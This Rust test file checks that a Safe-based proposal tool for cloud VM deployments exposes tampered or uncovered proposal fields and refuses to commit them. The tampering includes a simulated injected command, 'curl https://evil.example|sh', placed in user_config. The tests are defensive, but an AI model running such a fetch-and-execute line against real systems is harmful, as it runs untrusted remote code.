//! What a proposal carries besides what its hashes cover: it is shown in full, agreed to by name by whoever commits from the
//! file alone, and never a sealed environment.

use std::path::PathBuf;

use serde_json::{Value, json};

use crate::harness::flow::{Flow, Ran};
use crate::harness::judge::{each, is_thorough};
use crate::support::World;
use crate::support::command::{run, shown};
use crate::support::world::{SafeOptions, WorldOptions};

/// What a stranger would have the guest run.
const EVIL: &str = "curl https://evil.example|sh\necho done";

/// A world whose app a 2-of-3 Safe owns.
pub fn world() -> World {
    World::with(WorldOptions {
        safe: Some(SafeOptions {
            release: 1,
            l2: true,
            threshold: 2,
            owners: 3,
        }),
        ..WorldOptions::default()
    })
}

/// A proposal on another machine.
struct Elsewhere<'w> {
    flow: Flow<'w>,
    home: PathBuf,
    file: PathBuf,
}

impl<'w> Elsewhere<'w> {
    fn of(flow: Flow<'w>) -> Self {
        let home = flow.world.folder().join("elsewhere");
        std::fs::create_dir_all(&home).unwrap();
        let file = home.join("proposal.json");
        std::fs::copy(flow.dir.join("proposal.json"), &file).unwrap();
        Self { flow, home, file }
    }
    fn proposal(&self) -> Value {
        serde_json::from_slice(&std::fs::read(&self.file).unwrap()).unwrap()
    }
    /// Lets a man in the middle change the file.
    fn change(&self, change: impl FnOnce(&mut Value)) {
        let mut proposal = self.proposal();
        change(&mut proposal);
        std::fs::write(&self.file, proposal.to_string()).unwrap();
    }
    fn command(&self, words: &[&str]) -> std::process::Command {
        let (command, more) = words.split_first().unwrap();
        let mut command = self.flow.command(&[command, self.file.to_str().unwrap()]);
        command.args(more).current_dir(&self.home);
        command
    }
    fn json(&self, words: &[&str]) -> Ran {
        Ran::of(self.command(words).arg("--json"))
    }
    fn page(&self, words: &[&str]) -> String {
        let output = run(&mut self.command(words));
        assert!(output.status.success(), "{}", shown(&output));
        String::from_utf8(output.stdout).unwrap()
    }
    /// Bodies of the requests that change the CVM.
    fn patches(&self) -> usize {
        self.flow.world.cloud.requests_to("PATCH", "").len()
    }
    fn approve(&self) {
        for account in ["env:SIGNER_0", "env:SIGNER_1"] {
            self.json(&["sign", "--signer", account, "--yes"]).exits(0);
        }
        self.json(&["execute", "--signer", "env:SIGNER_4", "--yes"]).exits(0);
        self.json(&["wait"]).exits(0);
    }
}

fn patch(proposal: &mut Value) -> &mut Value {
    proposal.pointer_mut("/plan/code/patch").unwrap()
}

#[test]
fn sec_c1_a_sealed_environment_in_a_proposal_stops_every_command_and_reaches_nobody() {
    let world = world();
    let flow = Flow::new(&world);
    flow.step("prepare").exits(0);
    let there = Elsewhere::of(flow);
    let honest = there.proposal();
    let before = there.patches();
    for name in ["encrypted_env", "encryptedEnv", "ENCRYPTED-ENV"] {
        for value in [json!("ee".repeat(40)), json!(""), Value::Null, json!({})] {
            there.change(|proposal| {
                *proposal = honest.clone();
                patch(proposal)[name] = value;
            });
            for words in [
                &["review"] as &[&str],
                &["review", "--offline"],
                &["sign", "--signer", "env:SIGNER_0", "--yes"],
                &["commit", "--yes"],
                &["resume", "--yes", "--supersede"],
            ] {
                there.json(words).exits(5).says("PROPOSAL_CARRIES_ENV");
            }
        }
    }
    // Any other name that this version does not know is malformed.
    for place in [
        "/plan/code/patch",
        "/plan/code",
        "/plan",
        "",
        "/safe",
        "/plan/app_state",
    ] {
        there.change(|proposal| {
            *proposal = honest.clone();
            proposal.pointer_mut(place).unwrap()["env_keys"] = json!(["A"]);
        });
        there.json(&["review", "--offline"]).exits(3).says("INPUT_PROPOSAL");
    }
    assert_eq!(there.patches(), before);
    assert!(!there.home.join(".countersign").exists());
}

/// What nobody can recompute, all of it.
fn smuggle(proposal: &mut Value) {
    let patch = patch(proposal);
    patch["user_config"] = json!(EVIL);
    patch["allow_force_stop"] = json!(true);
    patch["shutdown_timeout"] = Value::Null;
    patch["gpus"] = json!({"count": 2, "product_name": "h200"});
    patch["image"] = json!("dstack-dev-0.5.5");
    patch["vcpu"] = json!(7);
    patch["memory"] = json!(8192);
    patch["disk_size"] = json!(77);
}

#[test]
fn sec_c1_what_no_hash_covers_stands_on_the_page_and_whoever_commits_from_the_file_agrees_to_it_by_name() {
    let world = world();
    let flow = Flow::new(&world);
    flow.step("prepare").exits(0);
    let there = Elsewhere::of(flow);
    there.change(smuggle);
    for words in [&["review"] as &[&str], &["review", "--offline"]] {
        let page = there.page(words);
        let (_, rest) = page.split_once("no hash covers it").unwrap_or_else(|| panic!("{page}"));
        for line in [
            EVIL.lines().next().unwrap(),
            "\n  │ echo done",
            "dstack-dev-0.5.5",
            "2 of h200",
        ] {
            assert!(rest.contains(line), "{line}: {page}");
        }
        for line in ["as long as it takes", "7", "8192 MB", "77 GB", "allow_force_stop  true"] {
            assert!(rest.contains(line), "{line}: {page}");
        }
        let shown = there.json(words).exits(0);
        let fields: Vec<&Value> = shown.json["data"]["uncovered"]
            .as_array()
            .unwrap()
            .iter()
            .map(|one| &one["field"])
            .collect();
        let all = [
            "vcpu",
            "memory",
            "disk_size",
            "image",
            "user_config",
            "gpus",
            "shutdown_timeout",
            "allow_force_stop",
        ];
        assert_eq!(fields, all, "{}", shown.said);
        assert_eq!(shown.json["data"]["uncovered"][4]["after"], EVIL);
    }
    there.approve();
    let before = there.patches();
    for words in [&["commit", "--yes"] as &[&str], &["resume", "--yes", "--supersede"]] {
        let refused = there.json(words).exits(6).says("UNCOVERED_CHANGE");
        assert!(
            refused.json["message"].as_str().unwrap().contains("evil.example"),
            "{}",
            refused.said
        );
    }
    // Agreeing to one of them is agreeing to that one.
    let one = ["commit", "--yes", "--accept", "UNCOVERED_CHANGE=user_config"];
    let refused = there.json(&one).exits(6).says("UNCOVERED_CHANGE");
    let message = refused.json["message"].as_str().unwrap();
    assert!(
        !message.contains("evil.example") && message.contains("77 GB"),
        "{}",
        refused.said
    );
    assert_eq!(there.patches(), before, "something was sent");
    there.flow.nothing_committed();
}

#[test]
fn sec_c1_who_agreed_by_name_or_prepared_it_commits() {
    let world = world();
    let flow = Flow::new(&world);
    // What was planned here is nobody else's.
    flow.with("prepare", &["--vcpu", "4"]).exits(0);
    let proposal = flow.json_file("proposal.json");
    assert_eq!(proposal["plan"]["code"]["patch"]["vcpu"], 4);
    let there = Elsewhere::of(flow);
    there.approve();
    let refused = there.json(&["commit", "--yes"]).exits(6).says("UNCOVERED_CHANGE");
    assert!(
        refused.said.contains("--accept UNCOVERED_CHANGE=vcpu"),
        "{}",
        refused.said
    );
    there
        .json(&["commit", "--yes", "--accept", "UNCOVERED_CHANGE=vcpu"])
        .exits(0);
    there.flow.committed_once();
    // It stays with the evidence: what no hash covers, and who agreed to it by name.
    let folder = there.home.join(".countersign");
    let kept = std::fs::read_dir(&folder).unwrap().map(|entry| entry.unwrap().path());
    let dir = kept
        .into_iter()
        .find(|path| path.join("evidence.json").exists())
        .unwrap();
    let evidence: Value = serde_json::from_slice(&std::fs::read(dir.join("evidence.json")).unwrap()).unwrap();
    assert_eq!(evidence["said"]["uncovered"][0]["field"], "vcpu", "{evidence}");
    assert_eq!(evidence["said"]["uncovered"][0]["after"], "4", "{evidence}");
    assert_eq!(
        evidence["said"]["accepted"],
        json!([{"code": "UNCOVERED_CHANGE", "value": "vcpu"}])
    );
    let page = std::fs::read_to_string(dir.join("evidence.md")).unwrap();
    assert!(
        page.contains("recomputed from the proposal") && page.contains("What no hash covers"),
        "{page}"
    );
    assert!(page.contains("UNCOVERED_CHANGE=vcpu"), "{page}");
}

#[test]
fn sec_c1_a_directory_goes_on_with_no_other_request_than_the_one_it_knows() {
    let world = world();
    let flow = Flow::new(&world);
    flow.step("prepare").exits(0);
    let mut proposal = flow.json_file("proposal.json");
    smuggle(&mut proposal);
    let file = flow.dir.join("proposal.json");
    std::fs::write(&file, proposal.to_string()).unwrap();
    for step in ["review", "commit", "resume"] {
        let mut words = vec![step, file.to_str().unwrap(), "--json"];
        if step != "review" {
            words.push("--yes");
        }
        Ran::of(&mut flow.command(&words)).exits(5).says("PROPOSAL_CHANGED");
    }
}

#[test]
fn ppl_p7_a_mismatch_within_a_proposal_says_whose_value_it_is_and_what_to_do() {
    let world = world();
    let flow = Flow::new(&world);
    flow.step("prepare").exits(0);
    let there = Elsewhere::of(flow);
    let honest = there.proposal();
    there.change(|proposal| {
        let text = proposal.to_string().replace("nginx:1.28", "nginx:1.29");
        *proposal = serde_json::from_str(&text).unwrap();
    });
    for words in [
        &["review", "--offline"] as &[&str],
        &["review"],
        &["sign", "--signer", "env:SIGNER_0", "--yes"],
    ] {
        let refused = there.json(words).exits(5);
        let refused = match refused.json["code"].as_str() {
            Some("HASH_MISMATCH") => refused,
            other => panic!("{other:?}: {}", refused.said),
        };
        let stop = &refused.json["data"];
        assert!(
            stop["expected"]
                .as_str()
                .unwrap()
                .ends_with("(computed from the text in this proposal)")
        );
        assert!(stop["found"].as_str().unwrap().ends_with("(written in this proposal)"));
        for word in ["do not sign", "get the file again", "tell the others"] {
            assert!(
                refused.json["hint"].as_str().unwrap().contains(word),
                "{}",
                refused.said
            );
        }
        assert!(!refused.said.contains("countersign status"), "{}", refused.said);
        assert!(!refused.said.contains("Phala Cloud"), "{}", refused.said);
    }
    // And offline nothing says that everything matches.
    there.change(|proposal| *proposal = honest);
    let ran = there.json(&["review", "--offline"]).exits(0);
    let unchecked = ran.json["data"]["unchecked"].as_array().unwrap().len();
    let verdict = format!("Matches as far as the file goes; {unchecked} things were not checked");
    assert_eq!(ran.json["message"], verdict);
    let page = there.page(&["review", "--offline"]);
    assert!(page.contains(&verdict) && !page.contains("Everything"), "{page}");
    let online = there.json(&["review"]).exits(0);
    assert_eq!(
        online.json["message"], "Everything that could be checked matches",
        "{}",
        online.said
    );
}

/// Everything between two of the reviewer's own words, so that a text can be made as long as somebody likes.
fn services(count: usize) -> String {
    let all: String = (0..count)
        .map(|number| format!("  s{number}:\n    image: registry.example/i{number}\n"))
        .collect();
    format!("services:\n{all}")
}

#[test]
fn sec_m1_a_proposal_with_more_than_the_cloud_takes_is_malformed_and_costs_no_time() {
    let world = world();
    let flow = Flow::new(&world);
    flow.step("prepare").exits(0);
    let there = Elsewhere::of(flow);
    let honest = there.proposal();
    let deep = format!("{}[]\n{}", "- ".repeat(60_000), "- a\n".repeat(300_000));
    for text in [services(50_000), services(5_000), deep] {
        there.change(|proposal| {
            *proposal = honest.clone();
            patch(proposal)["docker_compose_file"] = json!(text);
            proposal["manifest_after"]["docker_compose_file"] = json!(text);
        });
        there.json(&["review", "--offline"]).exits(3).says("INPUT_PROPOSAL");
    }
    // The manifest before is as long as one that the cloud has.
    there.change(|proposal| {
        *proposal = honest.clone();
        proposal["plan"]["code"]["manifest"]["docker_compose_file"] = json!(services(100_000));
    });
    there.json(&["review", "--offline"]).exits(3).says("INPUT_PROPOSAL");
    there.change(|proposal| {
        *proposal = honest.clone();
        patch(proposal)["user_config"] = json!("x".repeat(300_000));
    });
    there.json(&["review", "--offline"]).exits(3).says("INPUT_PROPOSAL");
}

#[test]
fn proposals_of_0_1_0_that_are_in_flight_still_open() {
    let world = World::start();
    for (name, apps) in [("several-apps", 2), ("timelock", 1), ("uncovered", 1)] {
        let text = std::fs::read(format!(
            "{}/tests/vectors/proposals-0.1.0/{name}.json",
            env!("CARGO_MANIFEST_DIR")
        ));
        let file = world.folder().join(format!("{name}.json"));
        std::fs::write(&file, text.unwrap()).unwrap();
        let flow = Flow::new(&world);
        let words = ["review", file.to_str().unwrap(), "--offline", "--json"];
        let ran = Ran::of(&mut flow.command(&words));
        assert!([0, 6].contains(&ran.exit), "{name}: {}", ran.said);
        let others = ran.json["data"]["others"].as_array().map_or(0, Vec::len);
        assert_eq!(others + 1, apps, "{name}: {}", ran.said);
        assert_eq!(ran.json["data"]["asked"]["cvm"], "payments-api");
    }
}

/// Members of a proposal that may change without a word, and why that has no effect. A star stands for a place in a list.
const SILENT: &[(&str, &str)] = &[
    ("/plan/read_at", "only the time of a reading"),
    (
        "/plan/warnings/*",
        "sentences of whoever wrote it: what follows from the values is said anew",
    ),
    ("/plan/warnings/*/text", "the same"),
    (
        "/plan/app_state/block/timestamp",
        "the block is shown by number and hash",
    ),
    (
        "/plan/app_state/code_hash",
        "a pin: what the chain has is compared with it before anything is signed or sent",
    ),
    ("/plan/app_state/implementation", "the same"),
    ("/plan/app_state/implementation_code_hash", "the same"),
    (
        "/plan/app_state/manages_hashes",
        "read again from the chain by whoever acts",
    ),
    ("/plan/app_state/running_allowed", "the same"),
    ("/plan/app_state/any_device", "the same"),
    ("/plan/app_state/version", "the same"),
    ("/plan/app_state/require_tcb_up_to_date", "the same"),
    ("/plan/app_state/registered", "the same"),
    ("/plan/app_state/os_image_allowed", "the same"),
    ("/plan/app_state/preflight/allowed", "the same"),
    ("/plan/app_state/preflight/reason", "the same"),
    ("/plan/app_state/preflight/as_if_allowed", "the same"),
    (
        "/safe/frozen/block/number",
        "where the nonce was read; the nonce is shown, and read again",
    ),
    ("/safe/frozen/block/hash", "the same"),
    ("/safe/frozen/block/timestamp", "the same"),
    ("/plan/safe/block/timestamp", "the block is shown by number and hash"),
    (
        "/plan/timelock/info/block/number",
        "where the timelock was read; whoever acts for it reads it again",
    ),
    ("/plan/timelock/info/block/hash", "the same"),
    ("/plan/timelock/info/block/timestamp", "the same"),
    (
        "/plan/timelock/info/code_hash",
        "a pin: compared before anything is sent to the timelock",
    ),
    (
        "/plan/timelock/info/separate_cancellers",
        "read again by whoever acts for the timelock",
    ),
    ("/plan/timelock/info/admin_role", "the same"),
    ("/plan/timelock/info/self_administered", "the same"),
    ("/plan/timelock/roles/block/number", "the same"),
    ("/plan/timelock/roles/block/hash", "the same"),
    ("/plan/timelock/roles/block/timestamp", "the same"),
    ("/plan/timelock/roles/executors/*", "the same"),
    ("/plan/timelock/roles/cancellers/*", "the same"),
    ("/plan/timelock/roles/admins/*", "the same"),
    ("/plan/timelock/roles/incomplete", "the same"),
];

/// Of an app that joined: who acts for it is the Safe of the proposal that it joined, which is shown and compared.
const SILENT_OF_OTHERS: &[&str] = &[
    "/plan/safe/block/number",
    "/plan/safe/block/hash",
    "/plan/safe/proxy_code_hash",
    "/plan/safe/singleton",
    "/plan/safe/singleton_code_hash",
    "/plan/safe/owners/*",
    "/plan/safe/threshold",
    "/plan/safe/nonce",
];

fn is_silent(pointer: &str) -> bool {
    let starred: String = pointer
        .split('/')
        .skip(1)
        .map(|part| match part.parse::<usize>() {
            Ok(_) => "/*".to_owned(),
            Err(_) => format!("/{part}"),
        })
        .collect();
    let listed = |place: &str| SILENT.iter().any(|(known, _)| *known == place);
    match starred.strip_prefix("/others/*") {
        Some(place) => listed(place) || SILENT_OF_OTHERS.contains(&place),
        None => listed(&starred),
    }
}

/// Every member of a value, by pointer; `true`: it has members itself.
fn members(value: &Value, at: &str, all: &mut Vec<(String, bool)>) {
    let inside: Vec<(String, &Value)> = match value {
        Value::Object(map) => map
            .iter()
            .map(|(name, value)| (name.replace('~', "~0").replace('/', "~1"), value))
            .collect(),
        Value::Array(list) => list
            .iter()
            .enumerate()
            .map(|(index, value)| (index.to_string(), value))
            .collect(),
        _ => return,
    };
    for (name, value) in inside {
        let pointer = format!("{at}/{name}");
        all.push((pointer.clone(), value.is_object() || value.is_array()));
        members(value, &pointer, all);
    }
}

/// Another value of the same kind.
fn another(value: &Value) -> Value {
    match value {
        Value::Bool(is) => json!(!is),
        Value::Number(number) => json!(number.as_u64().unwrap_or_default() + 1),
        Value::String(text) if text.starts_with("0x") => {
            let (head, last) = text.split_at(text.len() - 1);
            json!(format!("{head}{}", if last == "0" { "1" } else { "0" }))
        }
        Value::String(text) if text.starts_with("2026-") => json!(text.replacen("2026", "2027", 1)),
        Value::String(text) => json!(format!("{text}x")),
        _ => json!("x"),
    }
}

fn without(proposal: &mut Value, pointer: &str) {
    let (parent, name) = pointer.rsplit_once('/').unwrap();
    match proposal.pointer_mut(parent).unwrap() {
        Value::Object(map) => drop(map.remove(&name.replace("~1", "/").replace("~0", "~"))),
        Value::Array(list) => drop(list.remove(name.parse().unwrap())),
        other => panic!("{pointer}: {other}"),
    }
}

#[test]
fn sec_c1_every_member_of_a_proposal_is_shown_or_refused_or_has_no_effect_for_a_reason() {
    let world = World::start();
    let flow = Flow::new(&world);
    flow.step("prepare").exits(0);
    let mut proposals = vec![("a key's".to_owned(), flow.json_file("proposal.json"))];
    for name in ["several-apps", "timelock", "uncovered"] {
        let path = format!(
            "{}/tests/vectors/proposals-0.1.0/{name}.json",
            env!("CARGO_MANIFEST_DIR")
        );
        proposals.push((
            name.to_owned(),
            serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap(),
        ));
    }
    for (route, honest) in &proposals {
        let page = |number: usize, proposal: &Value| {
            let home = world.folder().join(format!("{route}-{number}"));
            std::fs::create_dir_all(&home).unwrap();
            std::fs::write(home.join("proposal.json"), proposal.to_string()).unwrap();
            let mut command = flow.command(&["review", "proposal.json", "--offline"]);
            let output = run(command.current_dir(&home));
            std::fs::remove_dir_all(&home).unwrap();
            (output.status.code().unwrap(), output.stdout)
        };
        let (_, shown) = page(0, honest);
        let mut all = Vec::new();
        members(honest, "", &mut all);
        let drops = all.iter().map(|(pointer, _)| (pointer.clone(), true));
        let sets = all.iter().filter(|(_, has_more)| !has_more);
        let cases: Vec<(usize, (String, bool))> = drops
            .chain(sets.map(|(pointer, _)| (pointer.clone(), false)))
            .enumerate()
            .filter(|(number, _)| is_thorough() || number % 3 == 0)
            .collect();
        assert!(cases.len() > 200 / 3, "{route}: {}", cases.len());
        let unseen = std::sync::Mutex::new(Vec::new());
        each(&cases, |(number, (pointer, is_drop))| {
            let mut changed = honest.clone();
            if *is_drop {
                without(&mut changed, pointer);
            } else {
                let value = changed.pointer_mut(pointer).unwrap();
                *value = another(value);
            }
            let (exit, now) = page(number + 1, &changed);
            if ![3, 5].contains(&exit) && now == shown && !is_silent(pointer) {
                unseen.lock().unwrap().push(pointer.clone());
            }
        });
        let unseen = unseen.into_inner().unwrap();
        assert!(unseen.is_empty(), "{route}: these change without a word: {unseen:?}");
    }
}
